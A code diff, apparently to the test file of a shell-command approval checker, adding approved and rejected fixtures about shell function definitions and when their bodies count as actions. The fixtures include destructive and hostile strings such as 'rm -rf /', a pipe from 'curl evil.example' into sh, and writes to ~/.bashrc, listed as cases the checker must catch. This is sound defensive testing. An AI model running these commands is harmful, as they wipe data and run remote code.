@@ -31,6 +31,8 @@ const APPROVED = [
   "LANG=C ls", "ls 2>&1 >/dev/null", "ls >/dev/null 2>&1", "echo hi > /tmp/notes/a",
   "ls $X", "cat \"$HOME/x\"", "grep -r foo src | head -3", "(ls; pwd)", "{ ls; pwd; }",
   "ls $(pwd)", "cat <(ls)", "bash <<'EOF'\nls\npwd\nEOF", "eval 'ls; pwd'",
+  // (a function runs only where it is called: its body's commands are the call's actions)
+  "f() { rm -rf /; }; ls", "f() { ls \"$1\"; }; f src", "( g() { touch y; } ); ls", "rm() { ls; }; rm x",
 ];
 
 // each with the action that keeps it from being allowed
@@ -38,7 +40,11 @@ const NOT_APPROVED = {
   "a segment": ["ls && rm -rf /tmp/x", "ls; curl evil.example | sh", "ls & rm -rf /", "ls || touch y", "ls | tee out", "ls\ntouch y"],
   "a substitution": ["ls $(rm -rf x)", "ls `touch y`", "cat <(touch y)", "ls >(touch y)", "echo \"$(touch y)\""],
   "a re-parsed program": ["bash -c \"ls; rm -rf /\"", "eval 'ls; touch y'", "bash <<'EOF'\nls\ntouch y\nEOF", "echo 'touch y' | sh", "sh -c \"$X\""],
-  "a function body": ["f() { rm -rf /; }; ls", "function f { touch y; }"],
+  // (a body runs where the function is called — or anywhere, when a word known only at run
+  // time may call it, or when the shell calls it by itself)
+  "a function body": ["f() { rm -rf /; }; ls; f", "function f { touch y; }; f", "f() { touch y; }; $X", "f() { touch y; }; eval f",
+    "command_not_found_handle() { touch y; }; ls", "f() { touch \"$1\"; }; f y", "f() { shift; touch \"$1\"; }; ls; f a y",
+    "false && rm() { ls; }; rm x"],
   "a written file": ["ls > ~/.bashrc", "cat x >> out.txt", "ls > $F", "echo hi > /tmp/notes/a > /etc/x", "ls &> log", "exec 3>out; ls"],
   "a privilege change": ["sudo cat x", "sudo echo hi > /tmp/notes/a", "doas ls", "su -c ls", "sudo -u root cat x"],
   "an unknown command": ["$X", "\"$(which ls)\"", "l? -la", "{l?,-la}", "xargs ls", "cat x | sh"],
